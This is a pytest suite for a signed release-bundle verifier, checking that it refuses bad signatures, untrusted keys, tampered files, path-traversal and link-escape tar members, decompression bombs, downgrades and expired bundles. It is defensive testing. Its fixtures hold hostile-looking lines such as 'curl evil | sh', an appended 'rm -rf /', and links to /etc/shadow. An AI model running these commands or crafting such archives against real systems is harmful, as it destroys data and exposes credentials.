"""bundle/verify.py refuses every kind of bad bundle with its own message and exit status.

Each test crafts one defect into an otherwise good bundle and runs the verifier as a
sysadmin would (``python3 verify.py …``, real gpg, real keys).
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from appliance.bundle.archive import split_file
from tests.unit.bundle.test_verifier_rules import verify

from .conftest import (
    DEFAULT_FILES,
    add_members,
    make_bundle,
    make_tar,
    run_verify,
    sign_manifest,
)

EXIT = {code: status for code, (status, _) in verify.REFUSALS.items()}


def assert_refused(proc, code: str, *fragments: str) -> None:
    assert proc.returncode == EXIT[code], proc.stderr
    assert f"REFUSED ({code})" in proc.stderr
    for fragment in fragments:
        assert fragment in proc.stderr


# --- good bundles -------------------------------------------------------------------------


def test_a_good_directory_verifies_and_reports_version_digest_and_signer(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    proc = run_verify(root, "--trust-fingerprint", release.fingerprint, "--json", signer=release)
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    manifest_sha = verify.hashlib.sha256((root / "MANIFEST.json").read_bytes()).hexdigest()
    assert result == {
        "status": "ok",
        "version": "1.2.0",
        "manifest_sha256": manifest_sha,
        "signer_fingerprint": release.fingerprint,
        "files": 4,
        "bytes": result["bytes"],
    }


def test_the_host_keyring_trust_is_the_anchor_without_a_fingerprint(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    proc = run_verify(root, signer=release)  # the key is ultimately trusted in its own home
    assert proc.returncode == 0, proc.stderr
    assert f"signer fingerprint: {release.fingerprint}" in proc.stdout


def test_verify_py_at_the_bundle_root_checks_its_own_bundle(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    # Run the copy inside the bundle with no path: it verifies the folder it sits in.
    proc = subprocess.run(
        [sys.executable, str(root / "verify.py"), "--quiet"],
        capture_output=True,
        text=True,
        env={**os.environ, "GNUPGHOME": str(release.home)},
        check=False,
    )
    assert proc.returncode == 0, proc.stderr


def test_a_good_tar_is_unpacked_and_verified(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    tar = make_tar(root, tmp_path / "animus-1.2.0.tar", release)
    target = tmp_path / "unpacked"
    proc = run_verify(tar, "--keyring", release.public_key, "--target", target)
    assert proc.returncode == 0, proc.stderr
    assert (target / "install.sh").read_bytes() == (root / "install.sh").read_bytes()
    assert os.access(target / "install.sh", os.X_OK) == os.access(root / "install.sh", os.X_OK)


def test_a_good_split_bundle_verifies_from_its_parts(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    tar = make_tar(root, tmp_path / "animus-1.2.0.tar", release)
    assert len(split_file(tar, 4096)) > 2
    proc = run_verify(
        tmp_path / "animus-1.2.0.tar.parts.json", "--target", tmp_path / "t", signer=release
    )
    assert proc.returncode == 0, proc.stderr


# --- signatures and keys ------------------------------------------------------------------


def test_missing_manifest_signature(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    (root / "MANIFEST.json.asc").unlink()
    assert_refused(run_verify(root, signer=release), "signature_missing", "MANIFEST.json.asc")


def test_bad_manifest_signature(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    manifest = root / "MANIFEST.json"
    manifest.write_bytes(manifest.read_bytes().replace(b'"1.2.0"', b'"9.9.9"'))
    assert_refused(run_verify(root, signer=release), "signature_bad", "BAD signature")


def test_missing_outer_signature_is_refused_before_unpacking(tmp_path, release):
    tar = make_tar(make_bundle(tmp_path / "b", release), tmp_path / "animus-1.2.0.tar", release)
    Path(str(tar) + ".sig").unlink()
    proc = run_verify(tar, "--target", tmp_path / "t", signer=release)
    assert_refused(proc, "signature_missing", "animus-1.2.0.tar.sig")
    assert not (tmp_path / "t").exists()


def test_bad_outer_signature_is_refused_before_unpacking(tmp_path, release):
    tar = make_tar(make_bundle(tmp_path / "b", release), tmp_path / "animus-1.2.0.tar", release)
    with open(tar, "r+b") as handle:
        handle.seek(2000)
        byte = handle.read(1)
        handle.seek(2000)
        handle.write(bytes([byte[0] ^ 1]))
    proc = run_verify(tar, "--target", tmp_path / "t", signer=release)
    assert_refused(proc, "signature_bad", "animus-1.2.0.tar")
    assert not (tmp_path / "t").exists()


def test_signer_not_in_the_given_keyring_is_unknown(tmp_path, release, stranger):
    root = make_bundle(tmp_path / "b", stranger)
    proc = run_verify(root, "--keyring", release.public_key)
    assert_refused(proc, "key_unknown", "not in the trusted keyring")


def test_a_valid_signature_by_another_key_is_untrusted(tmp_path, release, stranger):
    root = make_bundle(tmp_path / "b", stranger)
    proc = run_verify(root, "--trust-fingerprint", release.fingerprint, signer=stranger)
    assert_refused(proc, "key_untrusted", stranger.fingerprint, "not the trusted fingerprint")


def test_a_key_the_host_keyring_does_not_trust_is_refused(tmp_path, release, stranger):
    host = tmp_path / "host-gnupg"
    host.mkdir(mode=0o700)
    subprocess.run(
        ["gpg", "--batch", "--homedir", str(host), "--import", str(stranger.public_key)],
        check=True,
        capture_output=True,
    )
    root = make_bundle(tmp_path / "b", stranger)
    proc = run_verify(root, env={"GNUPGHOME": str(host)})
    subprocess.run(["gpgconf", "--homedir", str(host), "--kill", "all"], check=False)
    assert_refused(proc, "key_untrusted", "host keyring does not trust")


def test_no_gpg_on_the_host(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    proc = run_verify(root, signer=release, env={"PATH": str(tmp_path / "empty")})
    assert_refused(proc, "gpg_unavailable", "gpg was not found")


# --- the manifest and the files -----------------------------------------------------------


def test_a_signed_but_malformed_manifest(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    sign_manifest(root, b'{"format": "something-else"}', release)
    assert_refused(run_verify(root, signer=release), "manifest_invalid", "animus-bundle-manifest/1")


def test_missing_file(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    (root / "docs" / "install.md").unlink()
    assert_refused(run_verify(root, signer=release), "file_missing", "docs/install.md")


def test_extra_file(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    (root / "docs" / "planted.sh").write_text("curl evil | sh\n")
    assert_refused(run_verify(root, signer=release), "file_extra", "docs/planted.sh")


def test_size_mismatch(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    with open(root / "install.sh", "ab") as handle:
        handle.write(b"rm -rf /\n")
    assert_refused(run_verify(root, signer=release), "size_mismatch", "install.sh")


def test_hash_mismatch_of_the_same_size(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    wheel = root / "offline-wheels" / "example-1.0-py3-none-any.whl"
    data = bytearray(wheel.read_bytes())
    data[5000] ^= 0xFF
    wheel.write_bytes(bytes(data))
    assert_refused(run_verify(root, signer=release), "hash_mismatch", wheel.name)


def test_a_symbolic_link_in_an_unpacked_bundle(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    (root / "docs" / "passwd").symlink_to("/etc/passwd")
    assert_refused(run_verify(root, signer=release), "unsafe_member", "docs/passwd")


def test_a_bad_signature_is_reported_before_what_the_listing_found(tmp_path, release):
    # The files are listed (and hashed) while the signature is checked; the signature's
    # refusal still comes first, as it did when the listing followed it.
    root = make_bundle(tmp_path / "b", release)
    (root / "docs" / "passwd").symlink_to("/etc/passwd")
    manifest = root / "MANIFEST.json"
    manifest.write_bytes(manifest.read_bytes().replace(b'"1.2.0"', b'"1.2.1"'))
    assert_refused(run_verify(root, signer=release), "signature_bad")


def test_options_may_come_before_the_bundle_and_workers_may_be_chosen(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    for args in (("--workers", "3", root), (root, "--workers", "1"), ("--json", root)):
        proc = run_verify(*args, signer=release)
        assert proc.returncode == 0, (args, proc.stderr)


def test_help_and_a_usage_error_after_the_bundle_end_the_hashing_threads(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    helped = run_verify(root, "--help", signer=release)
    assert helped.returncode == 0 and "--trust-fingerprint" in helped.stdout
    wrong = run_verify(root, "--no-such-option", signer=release)
    assert wrong.returncode == 2 and "unrecognized arguments" in wrong.stderr


# --- unsafe archives ----------------------------------------------------------------------


def _member(name: str, kind: bytes = tarfile.REGTYPE, *, link: str = "", data: bytes = b""):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data


@pytest.mark.parametrize(
    ("member", "message"),
    [
        (_member("/etc/cron.d/evil", data=b"x"), "unsafe member name '/etc/cron.d/evil'"),
        (_member("animus-1.2.0/../../evil", data=b"x"), "unsafe member name"),
        (_member("animus-1.2.0/docs/x", tarfile.SYMTYPE, link="../../../etc"), "leaving the tree"),
        (_member("animus-1.2.0/docs/y", tarfile.SYMTYPE, link="/etc/shadow"), "leaving the tree"),
        (_member("animus-1.2.0/docs/null", tarfile.CHRTYPE), "device node"),
        (_member("animus-1.2.0/docs/h", tarfile.LNKTYPE, link="/etc/shadow"), "hard link out"),
        (_member("animus-1.2.0/docs/p", tarfile.FIFOTYPE), "is a fifo"),
        (_member("elsewhere/file", data=b"x"), "outside the bundle's folder"),
    ],
    ids=[
        "absolute",
        "dotdot",
        "symlink-up",
        "symlink-abs",
        "device",
        "hardlink-out",
        "fifo",
        "other-top",
    ],
)
def test_unsafe_archive_members_are_refused_before_anything_is_written(
    tmp_path, release, member, message
):
    tar = make_tar(make_bundle(tmp_path / "b", release), tmp_path / "animus-1.2.0.tar", release)
    add_members(tar, release, member)
    target = tmp_path / "t"
    proc = run_verify(tar, "--target", target, signer=release)
    assert_refused(proc, "unsafe_member", message)
    assert not target.exists()


def test_members_larger_than_the_manifest_are_a_decompression_bomb(tmp_path, release):
    root = make_bundle(tmp_path / "b", release)
    (root / "docs" / "install.md").write_bytes(b"\0" * (8 << 20))  # after signing the manifest
    tar = make_tar(root, tmp_path / "animus-1.2.0.tar", release)
    target = tmp_path / "t"
    proc = run_verify(tar, "--target", target, signer=release)
    assert_refused(proc, "size_exceeds_manifest", "docs/install.md", "refused before unpacking")
    assert not target.exists()


def test_hard_links_to_a_large_file_are_a_decompression_bomb(tmp_path, release):
    """A hard link's header says 0 bytes, but it unpacks as a copy of the file it names: a
    manifest listing the links as empty files must not let them through."""
    links = [f"docs/copy-{n:02}" for n in range(16)]
    large = bytes(range(256)) * (4 << 10)  # 1 MiB, 16 MiB once every link is a copy
    files = {**DEFAULT_FILES, "offline-wheels/large.whl": large, **dict.fromkeys(links, b"")}
    root = make_bundle(tmp_path / "b", release, files=files)
    for link in links:  # listed (empty) in the signed manifest, packed below as hard links
        (root / link).unlink()
    tar = make_tar(root, tmp_path / "animus-1.2.0.tar", release)
    add_members(
        tar,
        release,
        *(
            _member(
                f"animus-1.2.0/{link}",
                tarfile.LNKTYPE,
                link="animus-1.2.0/offline-wheels/large.whl",
            )
            for link in links
        ),
    )
    target = tmp_path / "t"
    proc = run_verify(tar, "--target", target, signer=release)
    assert_refused(
        proc,
        "size_exceeds_manifest",
        f"member docs/copy-00 would unpack to {len(large)} bytes; the manifest allows 0",
        "refused before unpacking",
    )
    assert not target.exists()


def test_an_archive_member_the_manifest_does_not_list(tmp_path, release):
    tar = make_tar(make_bundle(tmp_path / "b", release), tmp_path / "animus-1.2.0.tar", release)
    add_members(tar, release, _member("animus-1.2.0/docs/planted.md", data=b"hello"))
    proc = run_verify(tar, "--target", tmp_path / "t", signer=release)
    assert_refused(proc, "file_extra", "docs/planted.md")


def test_parts_from_different_bundles(tmp_path, release):
    one, two = tmp_path / "one", tmp_path / "two"
    for where, payload in ((one, b"first"), (two, b"second")):
        files = {"install.sh": b"#!/bin/sh\n", "docs/big.bin": os.urandom(20000) + payload}
        root = make_bundle(where / "src", release, files=files)
        split_file(make_tar(root, where / "animus-1.2.0.tar", release), 8192)
    shutil.copyfile(two / "animus-1.2.0.tar.part-001", one / "animus-1.2.0.tar.part-001")
    proc = run_verify(
        one / "animus-1.2.0.tar.parts.json", "--target", tmp_path / "t", signer=release
    )
    assert_refused(proc, "parts_mismatch", "part animus-1.2.0.tar.part-001 does not belong")


# --- versions and time --------------------------------------------------------------------


def test_downgrade_is_refused_unless_allowed(tmp_path, release):
    root = make_bundle(tmp_path / "b", release, version="1.2.0")
    installed = tmp_path / "VERSION"
    installed.write_text("1.10.0\n")
    proc = run_verify(root, "--installed-version-file", installed, signer=release)
    assert_refused(proc, "downgrade", "older than the installed 1.10.0")
    allowed = run_verify(
        root, "--installed-version-file", installed, "--allow-downgrade", signer=release
    )
    assert allowed.returncode == 0, allowed.stderr


def test_an_install_dir_gives_the_installed_version(tmp_path, release):
    root = make_bundle(tmp_path / "b", release, version="1.2.0")
    install = tmp_path / "opt-animus"
    install.mkdir()
    (install / "VERSION").write_text("1.2.0rc1\n")  # an upgrade from a release candidate
    assert run_verify(root, "--install-dir", install, signer=release).returncode == 0
    (install / "VERSION").write_text("1.3.0\n")
    assert_refused(run_verify(root, "--install-dir", install, signer=release), "downgrade")


def test_an_installed_version_too_old_to_upgrade_from(tmp_path, release):
    root = make_bundle(tmp_path / "b", release, version="2.0.0", min_upgrade_from="1.5.0")
    installed = tmp_path / "VERSION"
    installed.write_text("1.4.2\n")
    proc = run_verify(root, "--installed-version-file", installed, signer=release)
    assert_refused(proc, "upgrade_unsupported", "upgrades from 1.5.0 or newer")


def test_expired_bundle(tmp_path, release):
    expired = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1)
    root = make_bundle(tmp_path / "b", release, expires=expired)
    assert_refused(run_verify(root, signer=release), "expired", "expired at")


def test_every_refusal_has_its_own_exit_status():
    statuses = [status for status, _ in verify.REFUSALS.values()]
    assert len(statuses) == len(set(statuses))
    assert 0 not in statuses
